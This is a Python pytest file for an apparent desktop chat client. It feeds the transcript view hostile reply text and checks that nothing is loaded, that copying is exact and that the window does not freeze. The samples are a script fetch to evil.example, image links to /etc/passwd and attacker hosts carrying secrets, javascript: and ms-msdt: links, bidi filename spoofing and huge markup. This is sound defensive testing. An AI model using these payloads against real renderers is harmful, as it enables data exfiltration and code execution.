"""Tests of text that wants to harm: nothing is loaded, nothing raises, nothing is lost."""

from __future__ import annotations

import os
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PySide6.QtCore import Qt
from PySide6.QtWidgets import QTextEdit
from pytestqt.qtbot import QtBot

from realm_desktop.store.clean_text import clean_text
from realm_desktop.store.conversations import ConversationStore
from realm_desktop.store.records import MessageId
from realm_desktop.ui.chat.transcript_view import TranscriptView
from realm_desktop.ui.theme import Theme
from tests.support.audit import Audit, recorded_access
from tests.support.chat_views import (
    make_session,
    question_and_answer,
    settle,
    shown_tab,
    streaming,
)
from tests.support.event_loop_gaps import recorded_gaps
from tests.support.widgets import press
from tests.ui.chat.conftest import MakeDocument, ShowChat

HOSTILE = {
    "script": "<script>fetch('http://evil.example')</script><img src=x onerror=alert(1)>",
    "file image": "![x](file:///etc/passwd) ![y](/etc/passwd) ![z](../../secret.png)",
    "device image": "![x](/dev/zero)\n\n<img src='/dev/zero'>\n\n![y](</dev/zero>)",
    "unc": "![x](//evil.example/share/x.png) [y](\\\\evil.example\\share) <//evil.example/x>",
    "web image": "![x](https://evil.example/?q=secret) ![y][r]\n\n[r]: https://evil.example/y.png",
    "data": "[x](data:text/html;base64,PHNjcmlwdD4=) ![y](data:image/svg+xml,<svg/>)",
    "schemes": "[a](javascript:x) [b](vbscript:x) [c](ms-msdt:/id) [d](deepchat://run) <ftp://a.b>",
    "bidi": "a\u202eb [c\u202e](https://a.b/\u202egnp.exe) `d\u2066e` \u2067f\u2069",
    "zero width": "a\u200bb\u200d\u2060c\ufeffd\u00ade",
    "surrogates": "a\ud800b\udfffc [\ud800](http://a.b/\udfff) `\ud83d`",
    "nul": "a\x00b\x1bc\x7fd\x9be\ufffcf\ufdd0g\uffffh",
    "separators": "a\u2028b\u2029c\x85d\x0be\x0cf\rg\r\nh",
    "deep quotes": "> " * 3_000 + "x",
    "deep lists": "".join("  " * (n % 200) + "- x\n" for n in range(2_000)),
    "open brackets": "[" * 20_000,
    "open images": "![" * 20_000,
    "open stars": "**a" * 20_000,
    "backticks": "".join("`" * n + " " for n in range(1, 300)),
    "entities": "&#x202e;&#0;&#xd800;&lt;b&gt;&NotAnEntity;" * 500,
    "wide table": "|a" * 3_000 + "|\n" + "|-" * 3_000 + "|\n" + "|b" * 3_000 + "|",
    "long table": "|a|b|\n|-|-|\n" + "|x|y|\n" * 20_000,
    "many fences": "```py\nx = 1\n```\n" * 3_000,
    "unclosed": "# *a **b `c [d](e\n\n```py\n> |x",
    "one line": "x" * 1_000_000,
    "combining": "e" + "\u0301" * 50_000,
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 5_000,
    "right to left": "مرحبا بالعالم " * 2_000,
    "long link": f"[x](https://a.b/{'y' * 100_000})",
    "long language": "```" + "p" * 100_000 + "\nx\n```",
    "rich text": "<table><tr><td>x</td></tr></table><a href='file:///x'>y</a>",
    "whitespace": " \t\u3000\u2003" * 5_000,
    "empty": "",
}
A = MessageId("a")


@pytest.fixture
def audit() -> Iterator[Audit]:
    """Records files that are opened and connections that are made."""
    with recorded_access() as audit:
        yield audit


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_reply_is_shown_without_loading_anything(
    show_chat: ShowChat, audit: Audit, name: str
) -> None:
    view = show_chat(*question_and_answer(HOSTILE[name], question=HOSTILE[name]))
    view.grab()

    assert audit.foreign == []


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_reply_is_copied_exactly(
    qtbot: QtBot, theme: Theme, store: ConversationStore, name: str
) -> None:
    copied: list[str] = []
    # A session cleans what an engine sends: NUL and lone surrogates never get further.
    text = clean_text(HOSTILE[name])
    view = _stream(theme, store, qtbot, text, num_pieces=7)
    view.text_copied.connect(copied.append)
    view.setCurrentIndex(view.transcript_model.index(1))
    press(view, Qt.Key.Key_A, Qt.KeyboardModifier.ControlModifier)
    press(view, Qt.Key.Key_C, Qt.KeyboardModifier.ControlModifier)

    assert copied == ([text] if text else [])


def _stream(
    theme: Theme, store: ConversationStore, qtbot: QtBot, text: str, num_pieces: int
) -> TranscriptView:
    """A tab's view after a text came in pieces; the tab lives as long as the test."""
    tab = shown_tab(make_session(store, *streaming()), theme, qtbot)
    size = len(text) // num_pieces + 1
    for start in range(0, len(text), size):
        tab.session.transcript.append_text(A, text[start : start + size])
        tab.model.flush()
    settle(tab.view)
    return tab.view


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_stream_never_stops_the_window_for_long(
    qtbot: QtBot, theme: Theme, store: ConversationStore, name: str
) -> None:
    """The bound is wide, as machines differ; without our limits some of these take minutes."""
    with recorded_gaps() as gaps:
        _stream(theme, store, qtbot, HOSTILE[name], num_pieces=40)

    assert gaps.longest_s < 2.0


def test_no_part_of_a_tab_can_load_a_resource(
    qtbot: QtBot, theme: Theme, store: ConversationStore
) -> None:
    """Rich text widgets load what their text names; the conversation has none."""
    tab = shown_tab(make_session(store, *question_and_answer("x")), theme, qtbot)

    assert tab.findChildren(QTextEdit) == []


def test_pipe_named_by_a_reply_does_not_block(tmp_path: Path, show_chat: ShowChat) -> None:
    pipe = tmp_path / "pipe.png"
    os.mkfifo(pipe)
    view = show_chat(*question_and_answer(f"![x]({pipe}) <img src='{pipe}'> ![y](file://{pipe})"))

    assert not view.grab().isNull()


def test_source_of_html_and_images_is_visible(show_chat: ShowChat) -> None:
    view = show_chat(*question_and_answer("<script>x</script> ![alt](file:///etc/passwd)"))
    item = view.item(1)

    assert item is not None
    assert item.document.selected_text(item.document.everything()) == (
        "<script>x</script> ![alt](file:///etc/passwd)"
    )


MARKUP = (
    *("[", "](", ")", "![", "*", "**", "_", "`", "```\n", "~~", "<", ">", "> ", "- ", "1. ", "|"),
    *("\n", "\n\n", "# ", "&lt;", "&#0;", "\\", "http://a.b ", "word ", "    ", "\t", "---\n"),
    *("|a|b|\n|-|-|\n", "\u202e", "\ud800", "\x00", "\r", "\U0001f600", "\u0645", "e\u0301"),
)


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(parts=st.lists(st.sampled_from(MARKUP), max_size=120), seam=st.integers(1, 50))
def test_random_markup_in_pieces_is_shown_like_the_whole(
    make_document: MakeDocument, parts: list[str], seam: int
) -> None:
    text = "".join(parts)
    whole = make_document(text)
    pieces = make_document("", is_open=True)
    for end in range(seam, len(text) + seam, seam):
        pieces.set_text(text[:end], is_open=end < len(text))
        pieces.work(1.0)
        pieces.lay_out(0, 1e6)
    pieces.set_text(text, is_open=False)
    while pieces.has_work:
        pieces.work(1.0)

    assert [box.text for box in pieces.boxes] == [box.text for box in whole.boxes]
